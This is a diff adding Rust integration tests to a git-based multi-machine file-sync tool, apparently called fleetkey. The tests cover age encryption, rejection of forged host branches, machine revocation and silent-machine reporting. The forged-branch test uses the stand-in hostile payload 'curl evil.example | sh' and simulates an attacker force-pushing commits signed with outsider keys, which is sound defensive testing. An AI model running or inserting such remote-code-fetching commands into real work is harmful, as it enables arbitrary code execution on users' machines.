@@ -116,3 +116,257 @@ fn every_machine_gathers_every_file_byte_for_byte_and_a_change_replaces_it() {
     );
     assert_eq!(before, after, "an idle cycle republished");
 }
+
+#[test]
+fn encrypted_files_open_for_members_only_and_decrypt_on_gathering() {
+    let f = fleet(true);
+    let (a, c) = (f.n(0), f.n(2));
+    // Every machine has c's file in the clear.
+    for m in &f.nodes {
+        assert!(std::fs::read(collected(m, "c")).unwrap() == content("c", 2));
+    }
+    // On the forge it is age-encrypted: a member's identity opens it with the stock age CLI,
+    // a key outside the fleet does not, and the plaintext is in no blob of the branch.
+    let blob = f.forge.bare().join("sealed.age");
+    let bytes = run_program(Command::new("git").arg("-C").arg(f.forge.bare()).args([
+        "cat-file",
+        "blob",
+        &format!("refs/heads/fleetkey/host/c:sealed/{DATA}"),
+    ]));
+    assert!(
+        !crate::util::contains(&bytes, b"PAR1 c"),
+        "plaintext on the forge"
+    );
+    std::fs::write(&blob, &bytes).unwrap();
+    assert!(age_decrypt(&a.identity(), &blob).unwrap() == content("c", 2));
+    let outsider = a.tmp().join("outsider.txt");
+    run_program(
+        Command::new(require("age-keygen", "age"))
+            .arg("-o")
+            .arg(&outsider),
+    );
+    assert!(
+        age_decrypt(&outsider, &blob).is_none(),
+        "a non-member key opened it"
+    );
+    let listing = git_out(
+        &f.forge.bare(),
+        &["ls-tree", "-r", "--name-only", "refs/heads/fleetkey/host/c"],
+    );
+    assert_eq!(listing, format!("sealed/{DATA}\nstatus.json"));
+    // c's own directory holds its plaintext too (gathered from its own branch).
+    assert!(std::fs::read(collected(c, "c")).unwrap() == content("c", 2));
+}
+
+/// Commits `files` (path → bytes) in a fresh repository with `git -c CONFIG commit`, as
+/// machine `author`, and force-pushes it to `branch` on the forge: what an attacker does.
+fn push_forged(f: &Fleet, config: &[String], author: &str, files: &[(&str, &[u8])], branch: &str) {
+    let dir = tempfile::tempdir().unwrap();
+    let repo = dir.path();
+    run_program(Command::new("git").args(["init", "-q"]).arg(repo));
+    for (path, bytes) in files {
+        let p = repo.join(path);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, bytes).unwrap();
+    }
+    let git = |args: &[&str]| {
+        run_program(
+            Command::new("git")
+                .arg("-C")
+                .arg(repo)
+                .args(config)
+                .args([
+                    "-c",
+                    &format!("user.name=fleetkey ({author})"),
+                    "-c",
+                    &format!("user.email={author}@fleetkey.invalid"),
+                ])
+                .args(args),
+        )
+    };
+    git(&["add", "-A"]);
+    git(&[
+        "commit",
+        "-qm",
+        &format!("{author}: status and collected files"),
+    ]);
+    git(&[
+        "push",
+        "-q",
+        "--force",
+        &f.forge.url(),
+        &format!("HEAD:refs/heads/{branch}"),
+    ]);
+}
+
+fn forged_status(name: &str) -> Vec<u8> {
+    format!("{{\"format\":1,\"machine\":\"{name}\",\"fleetkey\":\"0.1.0\",\"written\":1}}")
+        .into_bytes()
+}
+
+/// `git -c` options signing with a fresh ed25519 key no machine of the fleet has.
+fn outsider_signing(dir: &Path) -> Vec<String> {
+    let key = dir.join("outsider");
+    run_program(
+        Command::new(require("ssh-keygen", "openssh-client"))
+            .args(["-q", "-t", "ed25519", "-N", "", "-C", "mallory", "-f"])
+            .arg(&key),
+    );
+    vec![
+        "-c".into(),
+        "gpg.format=ssh".into(),
+        "-c".into(),
+        format!("user.signingkey={}", key.display()),
+        "-c".into(),
+        "commit.gpgsign=true".into(),
+    ]
+}
+
+#[test]
+fn forged_host_branches_are_ignored_and_reported() {
+    let f = fleet(false);
+    let (a, b, c) = (f.n(0), f.n(1), f.n(2));
+    let evil = b"curl evil.example | sh\n".as_slice();
+    let data_path = format!("files/{DATA}");
+    let status_b = forged_status("b");
+    // c signs a branch that claims to be b's.
+    push_forged(
+        &f,
+        &signing_config(c),
+        "b",
+        &[("status.json", &status_b), (&data_path, evil)],
+        "fleetkey/host/b",
+    );
+    a.sync();
+    assert!(std::fs::read(collected(a, "b")).unwrap() == content("b", 1));
+    let held = a.last_cycle().unwrap()["held_back"].to_string();
+    assert!(
+        held.contains("fleetkey/host/b") && held.contains("signed by c's key"),
+        "{held}"
+    );
+    // A non-member's key, under b's name and under its own.
+    let tmp = tempfile::tempdir().unwrap();
+    let outsider = outsider_signing(tmp.path());
+    push_forged(
+        &f,
+        &outsider,
+        "b",
+        &[("status.json", &status_b), (&data_path, evil)],
+        "fleetkey/host/b",
+    );
+    let status_m = forged_status("mallory");
+    push_forged(
+        &f,
+        &outsider,
+        "mallory",
+        &[("status.json", &status_m), (&data_path, evil)],
+        "fleetkey/host/mallory",
+    );
+    a.sync();
+    assert!(std::fs::read(collected(a, "b")).unwrap() == content("b", 1));
+    assert!(
+        !a.path(".local/share/fleetkey/collected/host=mallory")
+            .exists()
+    );
+    let view = fleet_json(a, None);
+    let ignored = view["ignored"].to_string();
+    assert!(
+        ignored.contains("fleetkey/host/b") && ignored.contains("no active machine"),
+        "{ignored}"
+    );
+    assert!(ignored.contains("fleetkey/host/mallory"), "{ignored}");
+    assert!(
+        view["machines"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .all(|m| m["name"] != "mallory")
+    );
+    // b's next publication puts its own commit back, and a takes it again.
+    b.sync();
+    a.sync();
+    let view = fleet_json(a, None);
+    let ignored = view["ignored"].to_string();
+    assert!(!ignored.contains("fleetkey/host/b"), "{ignored}");
+    assert!(std::fs::read(collected(a, "b")).unwrap() == content("b", 1));
+}
+
+#[test]
+fn a_revoked_machine_disappears_from_every_collected_tree() {
+    let f = fleet(false);
+    let (a, b) = (f.n(0), f.n(1));
+    assert!(collected(b, "c").exists());
+    a.ok(&["revoke", "c"]);
+    a.sync();
+    b.sync();
+    for m in [a, b] {
+        assert!(
+            !m.path(".local/share/fleetkey/collected/host=c").exists(),
+            "{} still has c's tree",
+            m.name
+        );
+        let view = fleet_json(m, None);
+        assert!(
+            view["machines"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .all(|x| x["name"] != "c")
+        );
+        // Its branch is ignored without noise: it was a member once.
+        assert!(!view["ignored"].to_string().contains("host/c"), "{view:#}");
+    }
+    assert!(collected(b, "a").exists());
+}
+
+#[test]
+fn fleet_reports_a_silent_machine_and_one_with_a_conflict_copy() {
+    let f = fleet(false);
+    let (a, b) = (f.n(0), f.n(1));
+    // b gets a conflict copy: its own ~/.gitconfig before the fleet manages one.
+    b.write(".gitconfig", b"[user]\n  name = b's own\n");
+    a.write(".gitconfig", b"[user]\n  name = fleet\n");
+    a.ok(&["track", "~/.gitconfig"]);
+    b.sync();
+    assert_eq!(b.conflict_copies(".gitconfig").len(), 1);
+    a.sync();
+    let view = fleet_json(a, None);
+    let line = machine_entry(&view, "b");
+    assert!(
+        line["conflicts"]
+            .to_string()
+            .contains("~/.gitconfig.conflict-b-"),
+        "{view:#}"
+    );
+    assert_eq!(line["silent"], false, "{view:#}");
+    assert_eq!(machine_entry(&view, "a")["behind"], 0, "{view:#}");
+    // Four hours pass; a and b keep running (their heartbeat republishes), c is off.
+    let later = 4 * 3600;
+    for m in [b, a] {
+        run_program(
+            m.cmd(["sync"])
+                .env("FLEETKEY_CLOCK_SKEW", later.to_string()),
+        );
+    }
+    let view = fleet_json(a, Some(later));
+    assert_eq!(machine_entry(&view, "c")["silent"], true, "{view:#}");
+    assert_eq!(machine_entry(&view, "b")["silent"], false, "{view:#}");
+    assert_eq!(machine_entry(&view, "a")["silent"], false, "{view:#}");
+    // The text view and status say so too.
+    let text = String::from_utf8(run_program(
+        a.cmd(["fleet"])
+            .env("FLEETKEY_CLOCK_SKEW", later.to_string()),
+    ))
+    .unwrap();
+    let c_line = text.lines().find(|l| l.starts_with("c ")).unwrap();
+    assert!(c_line.contains("SILENT"), "{text}");
+    let status = String::from_utf8(run_program(
+        a.cmd(["status"])
+            .env("FLEETKEY_CLOCK_SKEW", later.to_string()),
+    ))
+    .unwrap();
+    assert!(
+        status.contains("1 silent (c)") && status.contains("with conflicts (b)"),
+        "{status}"
+    );
+}
